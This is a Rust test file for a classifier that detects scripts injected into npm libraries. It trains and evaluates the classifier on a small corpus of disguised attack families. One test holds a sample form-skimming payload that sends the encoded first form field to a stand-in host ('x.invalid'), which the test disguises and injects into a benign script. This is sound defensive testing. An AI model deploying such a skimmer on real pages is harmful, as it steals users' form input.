//! The classifier's whole pipeline on a small slice, in the test command: fetch a few
//! pinned npm libraries (`bench/corpus.sh`, verified against their pinned integrity), build
//! the corpus (real versions and version changes, cosmetic variants, every injected family
//! in four disguises at four places), train with whole libraries and whole families held
//! out, and score the held-out fold. The full corpus runs from `bench/classifier.sh`.
//!
//! The floors below were fixed before the first run and are below the product targets
//! (recall 97 %, false alarms 0.1 % per benign version change): with four libraries a fold
//! trains on three, so they guard against a broken corpus, features or trainer, not measure
//! the product. docs/scripts-analysis.md has the full figures.
#![allow(clippy::unwrap_used)]

#[path = "../examples/classifier/pipeline.rs"]
mod pipeline;

use parapet_scripts::analysis::learned;

/// Small libraries, so that the debug-build test stays quick.
const SLICE: [&str; 4] = ["js-cookie", "mustache", "underscore", "backbone"];
const FOLDS: usize = 4;

/// Held-out injections caught when scored against the clean version.
const MIN_RECALL_ADDED: f64 = 0.80;
/// Held-out injections caught when the whole injected file is scored.
const MIN_RECALL_WHOLE: f64 = 0.50;
/// False alarms per held-out benign version change, per cosmetic variant, and per whole
/// benign file.
const MAX_FALSE_ALARMS: f64 = 0.05;

#[test]
fn slice_is_built_trained_and_evaluated_with_libraries_and_families_held_out() {
    if let Err(e) = pipeline::fetch(&SLICE) {
        panic!("{e}");
    }
    let libs = pipeline::libraries(&SLICE).unwrap();
    let fams = pipeline::families(&[]).unwrap();
    assert_eq!(libs.len(), SLICE.len());
    assert!(
        libs.iter().all(|l| l.versions.len() >= 3),
        "every slice library has versions"
    );
    assert!(fams.len() >= 10, "ten or more families");
    let mut corpus = pipeline::build(&libs, &fams, FOLDS, true);
    pipeline::add_hand_corpus(&mut corpus).unwrap();
    let e = pipeline::cross_validate(&corpus, &libs, &fams, FOLDS, learned::TRAIN);
    println!("{}", pipeline::markdown(&corpus, &libs, &fams, &e));

    // Every family variant was disguised and injected at every place.
    let variants: usize = fams.iter().map(|f| f.variants.len()).sum();
    let injected = corpus.samples.iter().filter(|s| s.family.is_some()).count();
    assert_eq!(
        injected,
        variants * pipeline::DISGUISES.len() * (1 + 2 * pipeline::PLACES.len()),
        "skipped: {:?}",
        corpus.skipped
    );
    assert!(
        e.recall_added() >= MIN_RECALL_ADDED,
        "recall {:.3}",
        e.recall_added()
    );
    assert!(
        e.recall_whole() >= MIN_RECALL_WHOLE,
        "recall {:.3}",
        e.recall_whole()
    );
    assert!(
        e.change_false_alarms() <= MAX_FALSE_ALARMS,
        "false alarms per version change {:.3}: {:?}",
        e.change_false_alarms(),
        e.false_alarms
    );
    assert!(
        e.whole_false_alarms() <= MAX_FALSE_ALARMS,
        "false alarms per whole benign file {:.3}: {:?}",
        e.whole_false_alarms(),
        e.false_alarms
    );
    let cosmetic = e
        .by_kind
        .get(&pipeline::Kind::Cosmetic)
        .copied()
        .unwrap_or_default();
    assert!(cosmetic.n >= 2 * 3 * SLICE.len());
    assert!(cosmetic.rate() <= MAX_FALSE_ALARMS, "{:?}", e.false_alarms);

    // Training is reproducible: the same corpus gives the same parameters (fewer steps than
    // the shipped settings, to keep the debug build quick; nothing in the trainer depends on
    // the step count but the result).
    let quick = learned::TrainOptions {
        steps: 200,
        ..learned::TRAIN
    };
    let a = pipeline::train_all(&corpus, quick);
    let b = pipeline::train_all(&corpus, quick);
    assert_eq!(learned::render(&a, ""), learned::render(&b, ""));
}

/// Injection and disguise keep the payload's behaviour visible to the analysis: each
/// disguised payload parses, and an injected library differs from the clean one.
#[test]
fn disguises_and_places_make_valid_scripts() {
    let host = "var lib = (function () {\n  function helper(a, b) {\n    var sum = a + b;\n    var out = [];\n    for (var i = 0; i < sum; i++) { out.push(i * 2); }\n    return out.filter(function (x) { return x % 3 === 0; }).map(function (x) { return x + 1; });\n  }\n  return { helper: helper };\n})();\n";
    let payload = "document.addEventListener('submit', function (e) { new Image().src = 'https://x.invalid/?d=' + btoa(e.target.elements[0].value); });";
    for d in pipeline::DISGUISES {
        let code = pipeline::disguise(payload, d).unwrap();
        for p in pipeline::PLACES {
            let text = pipeline::inject(host, &code, p).unwrap_or_else(|| panic!("{d:?} {p:?}"));
            let a = parapet_scripts::analysis::analyse(&text);
            assert!(a.outcome.is_ok(), "{d:?} {p:?}: {text}");
            assert!(text.len() > host.len());
        }
    }
}
